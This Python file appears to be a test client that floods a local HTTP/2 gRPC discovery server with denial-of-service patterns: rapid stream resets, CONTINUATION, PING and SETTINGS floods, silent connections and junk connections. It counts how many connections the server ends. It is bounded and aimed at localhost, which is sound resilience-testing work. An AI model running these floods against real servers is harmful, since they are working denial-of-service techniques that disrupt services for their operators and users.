"""A program: an attacking client with raw HTTP/2 frames, bounded in number and time.

`python attackers.py KIND PORT FOLDER NAME COUNT SECONDS` uses NAME.pem and NAME.key of the folder. It sends
at most COUNT frames, or makes at most COUNT connections, for SECONDS. On a machine that stalls it runs
longer, until it has done some, and until the server has ended what it must end. It prints its number of
actions, of connections, and of connections that the server ended.
"""

import itertools
import json
import resource
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

from hpack import Encoder, NeverIndexedHeaderTuple

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_HEADERS = 4
ACK = 1
CANCEL = struct.pack(">I", 8)
PATIENCE = 20.0
LEAST = 200
BATCH = 500
FEW = 10
METHOD = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"
REQUEST = Encoder().encode(
    [
        NeverIndexedHeaderTuple(name, value)
        for name, value in (
            (":method", "POST"),
            (":scheme", "https"),
            (":path", METHOD),
            (":authority", "ads.cluster.local"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        )
    ]
)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def call(stream: int) -> bytes:
    """Return the headers frame that begins a call."""
    return frame(HEADERS, END_HEADERS, stream, REQUEST)


def reset(stream: int) -> bytes:
    """Return the frame that resets a stream."""
    return frame(RESET, 0, stream, CANCEL)


@dataclass
class Attack:
    """The limits of an attack, and its counts."""

    port: int
    tls: ssl.SSLContext
    count: int
    until: float
    to_be_ended: bool = False
    done: int = 0
    connections: int = 0
    ended: int = 0
    open: list[socket.socket] = field(default_factory=list)

    def goes_on(self) -> bool:
        """Return whether the attack goes on."""
        now = time.monotonic()
        if self.done >= self.count or now >= self.until + PATIENCE:
            return False
        return now < self.until or self.done < LEAST or (self.to_be_ended and not self.ended)

    def connect(self) -> socket.socket:
        """Return a new TCP connection."""
        self.connections += 1
        return socket.create_connection(("127.0.0.1", self.port), timeout=10)

    def speak(self) -> ssl.SSLSocket:
        """Return a new HTTP/2 connection."""
        secure = self.tls.wrap_socket(self.connect(), server_hostname="ads.cluster.local")
        secure.sendall(PREFACE + frame(SETTINGS, 0, 0))
        return secure


def silent(attack: Attack) -> None:
    """Silent connections, held until the server ends them."""
    while attack.goes_on():
        attack.open.append(attack.connect())
        attack.done += 1
    for item in attack.open:
        item.settimeout(max(0.01, attack.until - time.monotonic()))
        try:
            attack.ended += not item.recv(1)
        except TimeoutError:
            continue
        except ConnectionError:
            attack.ended += 1


def garbage(attack: Attack) -> None:
    """Connections that send something other than TLS."""
    while attack.goes_on():
        with attack.connect() as plain:
            plain.sendall(b"GET / HTTP/1.1\r\n\r\n")
        attack.done += 1


def handshakes(attack: Attack) -> None:
    """Connections that are closed after their handshake."""
    while attack.goes_on():
        attack.tls.wrap_socket(attack.connect(), server_hostname="other.example").close()
        attack.done += 1


def _batches(attack: Attack, make: Callable[[], Iterator[tuple[int, bytes]]], pause: float = 0.0) -> None:
    """Send batches of frames on one connection after another.

    `make` yields the batches of a new connection, each with its number of actions. The server's requests for
    acknowledgements are answered, so that it does not slow the attack down.
    """
    while attack.goes_on():
        heard = bytearray()
        try:
            with attack.speak() as secure:
                for done, batch in make():
                    secure.sendall(batch)
                    attack.done += done
                    time.sleep(pause)
                    _read(secure, heard)
                    secure.sendall(b"".join(_answers(heard)))
                    if not attack.goes_on():
                        break
        except (OSError, ssl.SSLError):
            attack.ended += 1


def _read(secure: ssl.SSLSocket, heard: bytearray) -> None:
    """Read all received data; raise OSError if the server has ended the connection."""
    secure.setblocking(False)
    try:
        while data := secure.recv(65536):
            heard += data
        raise ConnectionResetError
    except (ssl.SSLWantReadError, BlockingIOError):
        secure.settimeout(10)


def _answers(heard: bytearray) -> Iterator[bytes]:
    """Remove complete frames from the received data, and yield the acknowledgements that they require."""
    while len(heard) >= 9 and len(heard) >= (end := 9 + int.from_bytes(heard[:3], "big")):
        kind, flags, payload = heard[3], heard[4], bytes(heard[9:end])
        del heard[:end]
        if kind == PING and not flags & ACK:
            yield frame(PING, ACK, 0, payload)
        if kind == SETTINGS and not flags & ACK:
            yield frame(SETTINGS, ACK, 0)


def _for_ever(item: bytes, first: bytes = b"") -> Callable[[], Iterator[tuple[int, bytes]]]:
    def make() -> Iterator[tuple[int, bytes]]:
        yield 1, first
        while True:
            yield BATCH, item * BATCH

    return make


def _resets() -> Iterator[tuple[int, bytes]]:
    """Calls, each reset at once."""
    for begin in itertools.count(1, 2 * BATCH):
        yield BATCH, b"".join(call(number) + reset(number) for number in range(begin, begin + 2 * BATCH, 2))


def _late_resets() -> Iterator[tuple[int, bytes]]:
    """Calls, a few at a time, reset once the server has begun to serve them."""
    for begin in itertools.count(1, 2 * FEW):
        streams = range(begin, begin + 2 * FEW, 2)
        yield 0, b"".join(map(call, streams))
        yield FEW, b"".join(map(reset, streams))


ENDED = ("resets", "late-resets")
"""The attacks on one connection that the server must end."""

SETTING = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))
KINDS: dict[str, Callable[[Attack], None]] = {
    "silent": silent,
    "garbage": garbage,
    "handshakes": handshakes,
    "resets": lambda attack: _batches(attack, _resets),
    "late-resets": lambda attack: _batches(attack, _late_resets, 0.005),
    "pings": lambda attack: _batches(attack, _for_ever(frame(PING, 0, 0, b"12345678"))),
    "settings": lambda attack: _batches(attack, _for_ever(SETTING)),
    "continuations": lambda attack: _batches(
        attack, _for_ever(frame(CONTINUATION, 0, 1), frame(HEADERS, 0, 1, REQUEST))
    ),
    "empty-data": lambda attack: _batches(attack, _for_ever(frame(DATA, 0, 1), call(1))),
}


def main(kind: str, port: str, folder: str, name: str, count: str, seconds: str) -> None:
    """Attack, and print the counts."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tls.check_hostname = False
    tls.load_verify_locations(Path(folder) / "roots.pem")
    tls.load_cert_chain(Path(folder) / f"{name}.pem", Path(folder) / f"{name}.key")
    tls.set_alpn_protocols(["h2"])
    attack = Attack(int(port), tls, int(count), time.monotonic() + float(seconds), kind in ENDED)
    KINDS[kind](attack)
    sys.stdout.write(
        json.dumps({"done": attack.done, "connections": attack.connections, "ended": attack.ended})
    )


if __name__ == "__main__":
    main(*sys.argv[1:])
